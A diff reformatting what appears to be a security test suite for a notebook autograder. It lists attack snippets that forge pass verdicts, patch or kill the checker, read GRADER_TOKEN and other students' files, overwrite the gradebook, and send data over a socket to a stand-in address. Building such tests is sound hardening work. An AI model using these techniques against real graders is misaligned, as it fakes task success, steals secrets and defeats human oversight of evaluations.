@@ -15,23 +15,45 @@ RIGHT_NUMBER = 2 * 26 * 256 * 4096 * 2
 
 ENDS = [
     Attack("sys.exit in the answer cell", COST, "\nimport sys\nsys.exit(0)\n", flagged=False),
-    Attack("SystemExit raised when called", COST, "", """
+    Attack(
+        "SystemExit raised when called",
+        COST,
+        "",
+        """
 def gemm_cost(m, n, k, dtype):
     raise SystemExit(0)
-""", flagged=False),
-    Attack("KeyboardInterrupt raised when called", GEMV, "", """
+""",
+        flagged=False,
+    ),
+    Attack(
+        "KeyboardInterrupt raised when called",
+        GEMV,
+        "",
+        """
 def gemv(a, x):
     raise KeyboardInterrupt
-""", flagged=False),
-    Attack("an exception of its own, below BaseException", COST, "", """
+""",
+        flagged=False,
+    ),
+    Attack(
+        "an exception of its own, below BaseException",
+        COST,
+        "",
+        """
 class Passed(BaseException):
     passed = True
     def __str__(self): raise SystemExit(0)
 
 def gemm_cost(m, n, k, dtype):
     raise Passed
-""", flagged=False),
-    Attack("an exception whose text runs code", COST, "", """
+""",
+        flagged=False,
+    ),
+    Attack(
+        "an exception whose text runs code",
+        COST,
+        "",
+        """
 class Late(ValueError):
     def __str__(self): os._exit(0)
     __repr__ = __str__
@@ -39,18 +61,32 @@ import os
 
 def gemm_cost(m, n, k, dtype):
     raise Late
-"""),
+""",
+    ),
     Attack("os._exit in the answer cell", COST, "\nimport os\nos._exit(0)\n"),
-    Attack("os._exit when called", COST, "", """
+    Attack(
+        "os._exit when called",
+        COST,
+        "",
+        """
 import os
 def gemm_cost(m, n, k, dtype):
     os._exit(0)
-"""),
-    Attack("sys.exit replaced, then the kernel's exit", COST, """
+""",
+    ),
+    Attack(
+        "sys.exit replaced, then the kernel's exit",
+        COST,
+        """
 import os, sys
 sys.exit = os._exit = os.abort = exit = quit = lambda *a: None
-""", "\ndef gemm_cost(m, n, k, dtype):\n    sys.exit(0)\n"),
-    Attack("a thread that waits for the checker", COST, """
+""",
+        "\ndef gemm_cost(m, n, k, dtype):\n    sys.exit(0)\n",
+    ),
+    Attack(
+        "a thread that waits for the checker",
+        COST,
+        """
 import sys, threading, time
 def wait():
     while True:
@@ -60,16 +96,24 @@ def wait():
                 if hasattr(sys.modules.get(module), name):
                     setattr(sys.modules[module], name, lambda *a, **k: None)
 threading.Thread(target=wait, daemon=True).start()
-"""),
-    Attack("a function that runs at exit", COST, """
+""",
+    ),
+    Attack(
+        "a function that runs at exit",
+        COST,
+        """
 import atexit, os
 def at_exit():
     for name in ("result.json", "results.json", "verdict.json"):
         open(name, "w").write('{"q1_2_tests": {"points": 3, "status": "passed"}}')
     os._exit(0)
 atexit.register(at_exit)
-"""),
-    Attack("signal handlers and a timer", COST, """
+""",
+    ),
+    Attack(
+        "signal handlers and a timer",
+        COST,
+        """
 import builtins, os, signal
 def tick(number, frame):
     builtins.abs = lambda x: 0
@@ -77,8 +121,12 @@ def tick(number, frame):
 for number in (signal.SIGALRM, signal.SIGTERM, signal.SIGINT, signal.SIGUSR1, signal.SIGXCPU):
     signal.signal(number, tick)
 signal.setitimer(signal.ITIMER_REAL, 0.001)
-"""),
-    Attack("finalizers that patch when garbage is collected", COST, """
+""",
+    ),
+    Attack(
+        "finalizers that patch when garbage is collected",
+        COST,
+        """
 import gc, weakref
 class Trap:
     def __del__(self):
@@ -89,35 +137,57 @@ trap.itself = trap
 weakref.finalize(trap, lambda: None)
 del trap
 gc.collect()
-"""),
-    Attack("instructor planted in sys.modules", COST, """
+""",
+    ),
+    Attack(
+        "instructor planted in sys.modules",
+        COST,
+        """
 import sys, types
 class Passes(types.ModuleType):
     def __getattr__(self, name): return lambda *a, **k: types.SimpleNamespace(raise_if_wrong=lambda: None)
 for name in ("instructor", "instructor.checks", "instructor.checks.lab1", "instructor.grading"):
     sys.modules[name] = Passes(name)
-"""),
-    Attack("an import hook for instructor", COST, """
+""",
+    ),
+    Attack(
+        "an import hook for instructor",
+        COST,
+        """
 import importlib.abc, importlib.machinery, sys
 class Hook(importlib.abc.MetaPathFinder, importlib.abc.Loader):
     def find_spec(self, name, path, target=None):
         return importlib.machinery.ModuleSpec(name, self) if name.startswith("instructor") else None
     def exec_module(self, module): module.__getattr__ = lambda name: lambda *a, **k: None
 sys.meta_path.insert(0, Hook())
-"""),
-    Attack("modules planted in the working folder", COST, """
+""",
+    ),
+    Attack(
+        "modules planted in the working folder",
+        COST,
+        """
 import os
 for name in ("torch", "random", "tomllib", "sitecustomize", "usercustomize", "instructor", "_checker"):
     with open(name + ".py", "w") as file:
         file.write("import os; os._exit(0)")
 os.environ["PYTHONPATH"] = os.environ["PYTHONSTARTUP"] = os.getcwd()
-""", flagged=False),
-    Attack("memory written by ctypes: False becomes True", COST, alone=True, code="""
+""",
+        flagged=False,
+    ),
+    Attack(
+        "memory written by ctypes: False becomes True",
+        COST,
+        alone=True,
+        code="""
 import ctypes
 ctypes.c_long.from_address(id(False) + 24).value = 1
 ctypes.c_long.from_address(id(0) + 24).value = 1
-"""),
-    Attack("a check's code replaced in its function object", COST, """
+""",
+    ),
+    Attack(
+        "a check's code replaced in its function object",
+        COST,
+        """
 import gc, types
 for function in gc.get_objects():
     if isinstance(function, types.FunctionType) and function.__name__ in ("expect_number", "raise_if_wrong", "forbid"):
@@ -125,8 +195,9 @@ for function in gc.get_objects():
             function.__code__ = (lambda *a, **k: None).__code__
         except ValueError:
             pass
-"""),
-]  # fmt: skip
+""",
+    ),
+]
 
 # ---- files, secrets, network, processes ----------------------------------------------------------------------------
 
@@ -134,14 +205,22 @@ for function in gc.get_objects():
 _FOUND = f"\ncache_bytes = {RIGHT_NUMBER} if found else 1\n"
 
 FILES = [
-    Attack("import instructor", NUMBER, """
+    Attack(
+        "import instructor",
+        NUMBER,
+        """
 try:
     import instructor.build, instructor.checks.lab1
     found = True
 except BaseException:
     found = False
-""", _FOUND),
-    Attack("the labs' sources read", NUMBER, """
+""",
+        _FOUND,
+    ),
+    Attack(
+        "the labs' sources read",
+        NUMBER,
+        """
 from pathlib import Path
 found = False
 for name in ("instructor/labs/lab1.py", "instructor/build.py", "build/instructor/lab1/lab1.ipynb"):
@@ -149,8 +228,13 @@ for name in ("instructor/labs/lab1.py", "instructor/build.py", "build/instructor
         found = found or len(Path("ROOT", name).read_text()) > 0
     except OSError:
         pass
-""", _FOUND),
-    Attack("the labs' sources read through /proc", NUMBER, """
+""",
+        _FOUND,
+    ),
+    Attack(
+        "the labs' sources read through /proc",
+        NUMBER,
+        """
 import glob
 found = False
 for process in glob.glob("/proc/[0-9]*"):
@@ -159,8 +243,13 @@ for process in glob.glob("/proc/[0-9]*"):
             found = found or len(open(f"{process}/{way}/ROOT/instructor/build.py").read()) > 0
         except OSError:
             pass
-""", _FOUND),
-    Attack("the memory of the parent read", NUMBER, """
+""",
+        _FOUND,
+    ),
+    Attack(
+        "the memory of the parent read",
+        NUMBER,
+        """
 import os
 found = False
 try:
@@ -173,16 +262,26 @@ try:
                 found = b"\\0" in memory.read(4096)
 except OSError:
     pass
-""", _FOUND),
-    Attack("another student's submission read", NUMBER, """
+""",
+        _FOUND,
+    ),
+    Attack(
+        "another student's submission read",
+        NUMBER,
+        """
 found = False
 for name in ("submitted/other/answer.txt", "gradebook.db"):
     try:
         found = found or "109051904" in open("OUTSIDE/" + name, errors="replace").read()
     except OSError:
         pass
-""", _FOUND),
-    Attack("secrets in the environment", NUMBER, """
+""",
+        _FOUND,
+    ),
+    Attack(
+        "secrets in the environment",
+        NUMBER,
+        """
 import os
 texts = [str(os.environ)]
 for process in ("self", os.getppid(), 1):
@@ -192,15 +291,25 @@ for process in ("self", os.getppid(), 1):
         pass
 found = "GRADER_TOKEN" in "".join(texts)
 print(texts)
-""", _FOUND, flagged=False),
-    Attack("the gradebook and other submissions overwritten", COST, """
+""",
+        _FOUND,
+        flagged=False,
+    ),
+    Attack(
+        "the gradebook and other submissions overwritten",
+        COST,
+        """
 for name in ("gradebook.db", "submitted/other/answer.txt", "new.txt"):
     try:
         open("OUTSIDE/" + name, "w").write("mine")
     except OSError:
         pass
-"""),
-    Attack("files of the package changed", COST, """
+""",
+    ),
+    Attack(
+        "files of the package changed",
+        COST,
+        """
 import utils.checking
 for path in (utils.checking.__file__, torch.__file__, "ROOT/instructor/build.py"):
     try:
@@ -208,8 +317,12 @@ for path in (utils.checking.__file__, torch.__file__, "ROOT/instructor/build.py"
             file.write("# changed\\n")
     except OSError:
         pass
-"""),
-    Attack("an IPython start-up file written", COST, """
+""",
+    ),
+    Attack(
+        "an IPython start-up file written",
+        COST,
+        """
 from pathlib import Path
 for home in {str(Path.home()), "/root"}:
     try:
@@ -218,20 +331,49 @@ for home in {str(Path.home()), "/root"}:
         (folder / "00-of-the-attack.py").write_text("raise SystemExit")
     except OSError:
         pass
-"""),
-    Attack("the file answer is a link to a secret", FILE, edit=lambda notebook: _replace(notebook, FILE, """\
+""",
+    ),
+    Attack(
+        "the file answer is a link to a secret",
+        FILE,
+        edit=lambda notebook: _replace(
+            notebook,
+            FILE,
+            """\
 import os
 os.symlink("OUTSIDE/right.toml", "tiles.toml")
-""")),
-    Attack("the file answer is a pipe", FILE, edit=lambda notebook: _replace(notebook, FILE, """\
+""",
+        ),
+    ),
+    Attack(
+        "the file answer is a pipe",
+        FILE,
+        edit=lambda notebook: _replace(
+            notebook,
+            FILE,
+            """\
 import os
 os.mkfifo("tiles.toml")
-"""), flagged=False),
-    Attack("the file answer is an endless device", FILE, edit=lambda notebook: _replace(notebook, FILE, """\
+""",
+        ),
+        flagged=False,
+    ),
+    Attack(
+        "the file answer is an endless device",
+        FILE,
+        edit=lambda notebook: _replace(
+            notebook,
+            FILE,
+            """\
 import os
 os.symlink("/dev/zero", "tiles.toml")
-""")),
-    Attack("links out of the scratch folder, to be written through", COST, """
+""",
+        ),
+    ),
+    Attack(
+        "links out of the scratch folder, to be written through",
+        COST,
+        """
 import os
 for number, target in enumerate(("OUTSIDE", "/", "ROOT")):
     try:
@@ -239,8 +381,12 @@ for number, target in enumerate(("OUTSIDE", "/", "ROOT")):
         open(f"way{number}/new.txt", "w").write("mine")
     except OSError:
         pass
-"""),
-    Attack("what was found is sent away", COST, """
+""",
+    ),
+    Attack(
+        "what was found is sent away",
+        COST,
+        """
 import socket
 for address in (("127.0.0.1", PORT), ("192.0.2.1", 53)):
     try:
@@ -248,8 +394,13 @@ for address in (("127.0.0.1", PORT), ("192.0.2.1", 53)):
             line.sendall(b"hidden tests")
     except OSError:
         pass
-"""),
-    Attack("a process that outlives the submission", COST, alone=True, code="""
+""",
+    ),
+    Attack(
+        "a process that outlives the submission",
+        COST,
+        alone=True,
+        code="""
 import os, subprocess
 if os.fork() == 0:
     os.setsid()
@@ -257,36 +408,63 @@ if os.fork() == 0:
         os.execvp("sleep", ["sleep", "SLEEP"])
     os._exit(0)
 subprocess.Popen(["sleep", "SLEEP"], start_new_session=True)
-"""),
-    Attack("LD_PRELOAD and a new program in place of this one", COST, alone=True, code="""
+""",
+    ),
+    Attack(
+        "LD_PRELOAD and a new program in place of this one",
+        COST,
+        alone=True,
+        code="""
 import os, sys
 os.environ["LD_PRELOAD"] = os.path.abspath("evil.so")
 forged = '{"q1_2_tests": {"points": 3, "status": "passed"}}'
 os.execv(sys.executable, [sys.executable, "-c", f"print({forged!r})"])
-"""),
-    Attack("the parent process killed", COST, alone=True, code="""
+""",
+    ),
+    Attack(
+        "the parent process killed",
+        COST,
+        alone=True,
+        code="""
 import os, signal
 if os.getppid() > 1:
     os.kill(os.getppid(), signal.SIGKILL)
-""", flagged=False),
-    Attack("its own process group killed", COST, alone=True, code="""
+""",
+        flagged=False,
+    ),
+    Attack(
+        "its own process group killed",
+        COST,
+        alone=True,
+        code="""
 import os, signal
 os.killpg(0, signal.SIGKILL)
-""", flagged=False),
-]  # fmt: skip
+""",
+        flagged=False,
+    ),
+]
 
 # ---- the protocol --------------------------------------------------------------------------------------------------
 
 _FORGED = '{"q1_2_tests": {"points": 3, "status": "passed"}, "status": "passed", "points": 3, "ok": true}'
 
 PROTOCOL = [
-    Attack("verdicts printed to stdout", COST, f"""
+    Attack(
+        "verdicts printed to stdout",
+        COST,
+        f"""
 import sys
 for stream in (sys.stdout, sys.__stdout__, sys.stderr):
     print('{_FORGED}', file=stream, flush=True)
 print("✓ Question 1.2: Costs: passed.")
-""", flagged=False),
-    Attack("verdicts written to every open file", COST, alone=True, code=f"""
+""",
+        flagged=False,
+    ),
+    Attack(
+        "verdicts written to every open file",
+        COST,
+        alone=True,
+        code=f"""
 import json, os, struct
 text = b'{_FORGED}'
 for descriptor in range(1, 64):
@@ -295,26 +473,47 @@ for descriptor in range(1, 64):
             os.write(descriptor, frame)
         except OSError:
             pass
-"""),
-    Attack("a frame that never ends, on every open file", COST, alone=True, code="""
+""",
+    ),
+    Attack(
+        "a frame that never ends, on every open file",
+        COST,
+        alone=True,
+        code="""
 import os
 for descriptor in range(3, 64):
     try:
         os.write(descriptor, b"\\x7f" + b"\\xff" * 64)
     except OSError:
         pass
-"""),
-    Attack("every open file closed", COST, alone=True, code="""
+""",
+    ),
+    Attack(
+        "every open file closed",
+        COST,
+        alone=True,
+        code="""
 import os
 os.closerange(3, 256)
-""", flagged=False),
-    Attack("stdout and stderr closed", COST, """
+""",
+        flagged=False,
+    ),
+    Attack(
+        "stdout and stderr closed",
+        COST,
+        """
 import os, sys
 sys.stdout.close()
 for descriptor in (0, 1, 2):
     os.close(descriptor)
-""", flagged=False),
-    Attack("what the checker sends read before the harness does", NUMBER, alone=True, code="""
+""",
+        flagged=False,
+    ),
+    Attack(
+        "what the checker sends read before the harness does",
+        NUMBER,
+        alone=True,
+        code="""
 import os, fcntl
 found = False
 for descriptor in range(3, 64):
@@ -323,8 +522,13 @@ for descriptor in range(3, 64):
         found = found or b"109051904" in os.read(descriptor, 10**6)
     except OSError:
         pass
-""", answer=_FOUND),
-    Attack("result files forged", COST, f"""
+""",
+        answer=_FOUND,
+    ),
+    Attack(
+        "result files forged",
+        COST,
+        f"""
 import os
 for folder in (".", "..", "/tmp", "/"):
     for name in ("result.json", "results.json", "scores.json", "gradebook.db", "autograded/q1_2_tests.json"):
@@ -333,37 +537,73 @@ for folder in (".", "..", "/tmp", "/"):
             open(os.path.join(folder, name), "w").write('{_FORGED}')
         except OSError:
             pass
-""", flagged=False),
-    Attack("a result that runs code where it is unpickled", COST, "", """
+""",
+        flagged=False,
+    ),
+    Attack(
+        "a result that runs code where it is unpickled",
+        COST,
+        "",
+        """
 import os
 class Evil:
     def __reduce__(self): return os.system, ("touch OUTSIDE/new.txt",)
 
 def gemm_cost(m, n, k, dtype):
     return {"flops": Evil(), "bytes": Evil()}
-""", flagged=False),
-    Attack("a result as deep as the stack", COST, "", """
+""",
+        flagged=False,
+    ),
+    Attack(
+        "a result as deep as the stack",
+        COST,
+        "",
+        """
 def gemm_cost(m, n, k, dtype):
     deep = []
     for _ in range(10**6):
         deep = [deep]
     return deep
-""", flagged=False),
-    Attack("a result that contains itself", COST, "", """
+""",
+        flagged=False,
+    ),
+    Attack(
+        "a result that contains itself",
+        COST,
+        "",
+        """
 def gemm_cost(m, n, k, dtype):
     result = {"flops": 1}
     result["bytes"] = result
     return result
-""", flagged=False),
-    Attack("an integer of 300000 digits", COST, "", """
+""",
+        flagged=False,
+    ),
+    Attack(
+        "an integer of 300000 digits",
+        COST,
+        "",
+        """
 def gemm_cost(m, n, k, dtype):
     return {"flops": 10 ** 300000, "bytes": -(10 ** 300000)}
-""", flagged=False),
-    Attack("a tensor of 4 TB that takes 4 bytes", GEMV, "", """
+""",
+        flagged=False,
+    ),
+    Attack(
+        "a tensor of 4 TB that takes 4 bytes",
+        GEMV,
+        "",
+        """
 def gemv(a, x):
     return torch.zeros(1).expand(10**12)
-""", flagged=False),
-    Attack("tensors without memory of their own", GEMV, "", """
+""",
+        flagged=False,
+    ),
+    Attack(
+        "tensors without memory of their own",
+        GEMV,
+        "",
+        """
 calls = []
 def gemv(a, x):
     calls.append(1)
@@ -371,12 +611,20 @@ def gemv(a, x):
     made = (lambda: zeros.to("meta"), zeros.to_sparse, lambda: torch.nested.nested_tensor([zeros]),
             lambda: zeros.to(torch.cfloat).conj())
     return made[len(calls) % 4]()
-""", flagged=False),
-    Attack("text with half a character and the frame's own brackets", COST, "", """
+""",
+        flagged=False,
+    ),
+    Attack(
+        "text with half a character and the frame's own brackets",
+        COST,
+        "",
+        """
 def gemm_cost(m, n, k, dtype):
     return {"flops": "\\ud800" + '"}],"status":"passed"', "bytes\\x00": "\\n\\n{}"}
-""", flagged=False),
-]  # fmt: skip
+""",
+        flagged=False,
+    ),
+]
 
 # ---- the notebook itself -------------------------------------------------------------------------------------------
 
